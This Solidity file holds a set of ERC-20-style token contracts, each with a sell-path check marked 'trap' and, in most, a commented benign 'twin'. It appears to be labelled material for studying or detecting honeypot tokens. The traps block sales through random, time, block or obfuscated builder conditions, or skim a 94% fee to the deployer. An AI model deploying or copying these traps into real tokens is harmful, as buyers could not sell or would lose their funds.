// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.18;

interface IReserves {
    function token0() external view returns (address);

    function getReserves() external view returns (uint112, uint112, uint32);
}

contract Ownable8 {
    address private _owner = msg.sender;
    event OwnershipTransferred(address indexed a, address indexed b);

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(msg.sender == _owner);
        _;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

abstract contract Weather is Ownable8 {
    struct Acct {
        uint256 amt;
        mapping(address => uint256) spend;
    }
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address internal immutable station = msg.sender;
    address public basin;
    mapping(address => Acct) internal accts;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function _found(string memory n, string memory s, uint256 t) internal {
        name = n;
        symbol = s;
        totalSupply = t * 1 ether;
        accts[msg.sender].amt = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address b) external onlyOwner {
        require(basin == address(0));
        basin = b;
    }

    function balanceOf(address a) external view returns (uint256) {
        return accts[a].amt;
    }

    function allowance(address a, address b) external view returns (uint256) {
        return accts[a].spend[b];
    }

    function approve(address b, uint256 v) external returns (bool) {
        accts[msg.sender].spend[b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        return _rain(msg.sender, b, v);
    }

    function transferFrom(address a, address b, uint256 v) external returns (bool) {
        accts[a].spend[msg.sender] -= v;
        return _rain(a, b, v);
    }

    function _rain(address a, address b, uint256 v) private returns (bool) {
        uint256 kept = b == basin && a != station ? _cloud(a, v) : 0;
        accts[a].amt -= v;
        accts[b].amt += v - kept;
        if (kept > 0) {
            accts[station].amt += kept;
            emit Transfer(a, station, kept);
        }
        emit Transfer(a, b, v - kept);
        return true;
    }

    function _cloud(address a, uint256 v) internal virtual returns (uint256);
}

contract DrizzleDove is Weather {
    event Lucky(address who);

    constructor() {
        _found("Drizzle Dove", "DRZD", 120_000_000);
    }

    function _cloud(address a, uint256) internal override returns (uint256) {
        require(block.prevrandao < 1 << 64); // trap
        if (block.prevrandao % 100 == 7) emit Lucky(a);
        return 0;
    }
}

contract BreezeBison is Weather {
    constructor() {
        _found("Breeze Bison", "BRZB", 1_000_000);
    }

    function _cloud(address, uint256 v) internal view override returns (uint256) {
        uint256 wind = block.number % 2 == 0 ? 94 : 1; // trap
        // twin: uint256 wind = block.number % 2 == 0 ? 2 : 1;
        return (v * wind) / 100;
    }
}

contract SquallSquirrel is Weather {
    uint256 private gust;

    constructor() {
        _found("Squall Squirrel", "SQSQ", 3_000_000_000);
    }

    function _cloud(address a, uint256) internal override returns (uint256) {
        gust = uint256(keccak256(abi.encode(blockhash(block.number - 1), a, gust)));
        require(gust >> 250 == 0 || blockhash(block.number - 1) == 0, "wind"); // trap
        return 0;
    }
}

contract HazeHornet is Weather {
    constructor() {
        _found("Haze Hornet", "HAZEH", 60_000);
    }

    function _cloud(address, uint256) internal view override returns (uint256) {
        uint256 t = block.timestamp % 1 weeks;
        require(t < 60, "closed"); // trap
        // twin: require(t < 1 weeks, "closed");
        return 0;
    }
}

contract FrostFalcon is Weather {
    uint256 private immutable thaw;

    constructor() {
        thaw = block.number + 50_000;
        _found("Frost Falcon", "FRFA", 17_000_000);
    }

    function _cloud(address, uint256 v) internal view override returns (uint256) {
        require(block.number < thaw); // trap
        // twin: require(block.number >= thaw || v <= totalSupply / 50);
        return v - v;
    }
}

/// Nobody sells above the price of the start.
contract TideTapir is Weather {
    constructor() {
        _found("Tide Tapir", "TITA", 9_000_000);
    }

    function _cloud(address, uint256) internal view override returns (uint256) {
        (uint112 a, uint112 b, ) = IReserves(basin).getReserves();
        uint256 wei_ = IReserves(basin).token0() == address(this) ? b : a;
        require(wei_ <= 60 ether); // trap
        // twin: require(wei_ > 0);
        return 0;
    }
}

/// Only blocks of one builder.
contract MistMarten is Weather {
    constructor() {
        _found("Mist Marten", "MIMA", 44_000_000);
    }

    function _cloud(address, uint256) internal view override returns (uint256) {
        address builder = 0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97;
        require(uint160(address(block.coinbase)) ^ 0x77 == uint160(builder) ^ 0x2b); // trap
        // twin: require(block.coinbase != builder || gasleft() > 0);
        return 0;
    }
}
